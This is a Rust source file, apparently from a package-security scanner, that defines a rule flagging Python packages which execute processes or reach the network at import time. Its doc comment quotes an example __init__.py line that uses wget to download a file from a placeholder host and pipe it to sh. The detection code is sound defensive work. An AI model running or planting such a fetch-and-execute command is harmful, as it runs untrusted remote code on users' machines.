use ossprey_model::{Category, Finding, Severity};
use ossprey_static::analysis::RunsAt;

use super::common::{
    CommandKind, Liveness, classify_call, dangerous_in_snippet, decoded_by_local_helper,
    is_network, is_process_exec, is_test_path, python_sources,
};
use crate::{Input, Rule, finding};

/// ## What it does
/// Finds process execution and network calls that run when the package is
/// imported: at the top level of `__init__.py` or a top-level module (or in a
/// function that module-level code calls). Build-tool queries such as
/// `git describe` are not reported; downloads, shells fetching URLs and PowerShell are
/// critical; anything else is medium.
///
/// ## Why is this bad?
/// `import pkg` should define things, not act. Malware that misses the install
/// hook (wheels run no `setup.py`) moves its payload to import time, where it
/// runs in every program that uses the package.
///
/// ## Example
/// ```python
/// # pkg/__init__.py
/// import os
/// os.system("wget -q http://example.invalid/x -O /tmp/x && sh /tmp/x")
/// ```
#[derive(Debug)]
pub struct ImportTimeExec;

impl Rule for ImportTimeExec {
    fn id(&self) -> &'static str {
        "PY-IMPORT-TIME-EXEC"
    }
    fn category(&self) -> Category {
        Category::EXECUTION
    }
    fn summary(&self) -> &'static str {
        "process execution or network access when the package is imported"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for (file, source) in python_sources(input) {
            if file.runs_at != RunsAt::Import || is_test_path(&file.path) {
                continue;
            }
            let live = Liveness::of(file, source, input, &Default::default());
            for call in &source.calls {
                let exec = is_process_exec(&call.callee);
                let net = is_network(&call.callee);
                if !(exec || net) || !live.runs(call) {
                    continue;
                }
                let (severity, what) = if exec {
                    let kind = decoded_by_local_helper(call, source)
                        .map(CommandKind::Dangerous)
                        .or_else(|| classify_call(call));
                    match kind {
                        Some(CommandKind::Dangerous(why)) => (Severity::Critical, why),
                        Some(CommandKind::Build) => continue,
                        _ => match dangerous_in_snippet(&call.snippet) {
                            Some(w) => (Severity::Critical, format!("runs a command with {w}")),
                            None => (Severity::Medium, "runs a program".to_owned()),
                        },
                    }
                } else {
                    (Severity::Medium, "reaches the network".to_owned())
                };
                out.push(finding(
                    self.id(),
                    severity,
                    self.category(),
                    format!("`{}` on import {what}", call.callee),
                    Some(&file.path),
                    Some(call.line),
                    Some(&call.snippet),
                ));
            }
        }
    }
}
